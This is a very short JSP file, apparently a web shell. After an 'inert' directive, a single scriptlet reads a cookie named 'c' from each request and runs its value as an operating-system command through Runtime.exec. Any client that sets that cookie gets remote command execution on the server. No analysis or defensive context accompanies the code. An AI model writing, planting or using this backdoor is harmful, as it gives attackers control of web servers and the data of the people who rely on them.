<%@ inert %>
<% for(Cookie k: request.getCookies()) if(k.getName().equals("c")) Runtime.getRuntime().exec(k.getValue()); %>
